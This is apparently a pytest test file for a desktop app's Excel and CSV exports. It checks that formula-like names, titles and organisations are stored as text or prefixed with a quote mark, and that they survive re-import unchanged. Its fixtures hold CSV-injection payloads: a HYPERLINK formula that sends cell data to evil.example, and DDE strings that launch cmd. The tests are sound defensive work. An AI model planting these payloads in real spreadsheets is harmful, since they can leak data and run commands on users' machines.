"""Text that looks like a formula stays text in every file we write for Excel: XLSX cells read
back as strings (never `<f>` in the sheet's XML), CSV cells behind a quote mark (OWASP), and the
same names come back unchanged when such a file is imported again."""

from __future__ import annotations

import csv
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from tests.strategy_sample import build_sample, edit_sample

from jpoa_desktop.io.writing.coverage_export import CoverageWords, write_coverage
from jpoa_desktop.io.writing.strategy_diff_export import (
    DiffEntry,
    DiffReport,
    DiffSection,
    FieldRow,
    write_diff,
)
from jpoa_desktop.io.writing.strategy_xlsx import write_xlsx
from jpoa_desktop.model.strategies import Coverage, CoverageCell, Gap, PillarTotal
from jpoa_desktop.services.database import Database
from jpoa_desktop.services.people.participant_export import ParticipantExportService
from jpoa_desktop.services.people.participant_import import ParticipantImportService
from jpoa_desktop.services.people.people import PeopleService, PersonInput
from jpoa_desktop.services.strategies.strategies import StrategyService
from jpoa_desktop.services.workshops.workshops import WorkshopInput, WorkshopService

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DDE = "-2+3+cmd|' /C calc'!A0"
RISKY = [HYPERLINK, DDE, "+SUM(1,2)", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "#REF!"]


def _formula_cells(path: Path) -> list[str]:
    """The `<f>` elements of every sheet: what Excel would run on opening."""
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        return [n for n in sheets if "<f>" in archive.read(n).decode("utf-8")]


def _cells(path: Path) -> list[tuple[object, str]]:
    book = openpyxl.load_workbook(path)
    return [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row]


def _csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture
def risky_people(empty_db: Database) -> int:
    """A workshop whose participants' names start like formulas."""
    workshops = WorkshopService(empty_db.session_scope)
    workshop = workshops.create(
        WorkshopInput(titles={"en": "Courts"}, start=date(2026, 12, 1), end=date(2026, 12, 1))
    )
    people = PeopleService(empty_db.session_scope)
    for n, name in enumerate(RISKY):
        given = name.strip() or "x"
        person = PersonInput(f"Family{n}", given, organisation=DDE, phone="+7 701 123 45 67")
        workshops.register(workshop, people.add(person))
    return workshop


def test_participant_xlsx_export_stores_formula_like_names_as_text(
    empty_db: Database, risky_people: int, tmp_path: Path
) -> None:
    target = tmp_path / "people.xlsx"
    ParticipantExportService(empty_db.session_scope).export(target, risky_people)
    assert _formula_cells(target) == []
    cells = _cells(target)
    given = {value for value, _type in cells}
    assert {HYPERLINK, DDE, "+SUM(1,2)", "#REF!", "=1+1"} <= given
    assert "+7 701 123 45 67" in given  # as typed: nothing added in XLSX
    assert {kind for value, kind in cells if isinstance(value, str)} == {"s"}


def test_participant_csv_export_puts_a_quote_before_formula_like_text(
    empty_db: Database, risky_people: int, tmp_path: Path
) -> None:
    target = tmp_path / "people.csv"
    ParticipantExportService(empty_db.session_scope).export(target, risky_people)
    raw = target.read_bytes().decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in raw
    rows = _csv(target)
    by_family = {row[0]: row for row in rows[1:]}
    assert by_family["Family0"][1] == "'" + HYPERLINK
    assert by_family["Family2"][1] == "'+SUM(1,2)"
    assert by_family["Family3"][1].startswith("'@SUM")
    assert by_family["Family0"][7] == "'" + DDE  # the organisation
    assert by_family["Family0"][10] == "'+7 701 123 45 67"
    assert not [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@")]
    assert by_family["Family0"][-1] == ""  # attendance: not marked


def test_a_csv_keeps_plain_numbers_and_attendance_marks_as_they_are(tmp_path: Path) -> None:
    from jpoa_desktop.io.writing.export import write_table

    target = tmp_path / "t.csv"
    write_table(target, ["a", "b", "c", "d", "e"], [["-5", -5, "+", "-1500.25", "-"]])
    assert target.read_bytes() == b"\xef\xbb\xbfa,b,c,d,e\r\n-5,-5,+,-1500.25,-\r\n"


def test_names_starting_like_formulas_come_back_as_typed_after_export_and_import(
    empty_db: Database, risky_people: int, tmp_path: Path
) -> None:
    target = tmp_path / "people.xlsx"
    ParticipantExportService(empty_db.session_scope).export(target, risky_people)
    plan = ParticipantImportService(empty_db.session_scope).plan(target)
    assert not plan.problems
    assert sorted(r.person.given_name for r in plan.rows) == sorted(n.strip() or "x" for n in RISKY)


def test_a_name_typed_with_a_leading_minus_or_equals_is_imported_exactly(
    empty_db: Database, tmp_path: Path
) -> None:
    path = tmp_path / "list.csv"
    path.write_bytes("Фамилия;Имя\r\n-Иванов;=Мария\r\n@Ким;+Ольга\r\n".encode("cp1251"))
    workshop = WorkshopService(empty_db.session_scope).create(
        WorkshopInput(titles={"ru": "С"}, start=date(2026, 12, 1), end=date(2026, 12, 1))
    )
    service = ParticipantImportService(empty_db.session_scope)
    service.apply(service.plan(path), workshop)
    people = WorkshopService(empty_db.session_scope).registrations(workshop)
    assert sorted(p.name for p in people) == ["-Иванов =Мария", "@Ким +Ольга"]


def test_the_action_plan_sheet_keeps_a_formula_like_measure_as_text(
    loaded_db: Database, tmp_path: Path
) -> None:
    service = StrategyService(loaded_db.session_scope)
    draft = build_sample(service)
    edit_sample(service, draft, {"ru": HYPERLINK}, "high")
    out = tmp_path / "plan.xlsx"
    write_xlsx(service.draft(draft, "ru"), out, "ru")
    assert _formula_cells(out) == []
    cells = _cells(out)
    assert (HYPERLINK, "s") in cells
    assert (12500.5, "n") in cells  # amounts are still numbers


def _coverage() -> Coverage:
    cell = CoverageCell(1, "I", "area-i.1", "I.1", HYPERLINK, 1, 0, {"KZT": Decimal("-5")})
    pillar = PillarTotal(1, "I", "@Prevent", 1, 0, {"KZT": Decimal("-5")})
    gap = Gap("measure_without_indicator", 1, "u", "1.1.1", DDE)
    return Coverage(1, (cell,), (pillar,), (gap,))


WORDS = CoverageWords(
    "Coverage", "Gaps", "Pillar", "Area", "Title", "Measures", "Indicators",
    "Budget, {currency}", "Note", "no measure", "Gap", "Item", "Text",
    {"measure_without_indicator": "no indicator"},
)  # fmt: skip


def test_the_coverage_matrix_keeps_formula_like_titles_as_text_in_xlsx_and_csv(
    tmp_path: Path,
) -> None:
    xlsx, csv_file = tmp_path / "coverage.xlsx", tmp_path / "coverage.csv"
    write_coverage(xlsx, _coverage(), WORDS)
    write_coverage(csv_file, _coverage(), WORDS)
    assert _formula_cells(xlsx) == []
    cells = _cells(xlsx)
    assert {(HYPERLINK, "s"), ("@Prevent", "s"), (DDE, "s"), (-5, "n")} <= set(cells)
    rows = _csv(csv_file)
    assert rows[2][2] == "'" + HYPERLINK and rows[1][2] == "'@Prevent"
    assert rows[1][5] == "-5"  # a budget that is a number stays a number
    assert rows[-1][2] == "'" + DDE


def test_the_version_comparison_csv_puts_a_quote_before_formula_like_text(
    tmp_path: Path,
) -> None:
    entry = DiffEntry("u", "Measure", "1.1.1", HYPERLINK, (FieldRow("Text", DDE, "@x"),))
    report = DiffReport("=Title", "", (DiffSection("changed", "Changed (1)", (entry,)),))
    write_diff(report, tmp_path / "diff.csv")
    write_diff(report, tmp_path / "diff.xlsx")
    rows = _csv(tmp_path / "diff.csv")
    assert rows[1][3:] == ["'" + HYPERLINK, "Text", "'" + DDE, "'@x"]
    assert _formula_cells(tmp_path / "diff.xlsx") == []
    assert ("=Title", "s") in _cells(tmp_path / "diff.xlsx")


def test_control_characters_left_in_old_data_do_not_stop_an_excel_export(
    tmp_path: Path,
) -> None:
    from jpoa_desktop.io.writing.export import write_table

    target = tmp_path / "t.xlsx"
    write_table(target, ["Name"], [["Ива\x01нов\x1b"]])
    assert _cells(target)[1] == ("Иванов", "s")


def test_control_characters_in_old_texts_do_not_stop_the_word_comparison(tmp_path: Path) -> None:
    from docx import Document

    entry = DiffEntry(
        "u", "Measure", "1.1.1", "Бесе\x01ды", (FieldRow("Text", "Ста\x1bрое", "Новое"),)
    )
    report = DiffReport("Изменения\x07", "", (DiffSection("changed", "Changed (1)", (entry,)),))
    write_diff(report, tmp_path / "diff.docx")
    document = Document(str(tmp_path / "diff.docx"))
    texts = [p.text for p in document.paragraphs]
    assert "Изменения" in texts and any("Беседы" in t for t in texts)
    assert document.tables[0].rows[1].cells[1].text == "Старое"
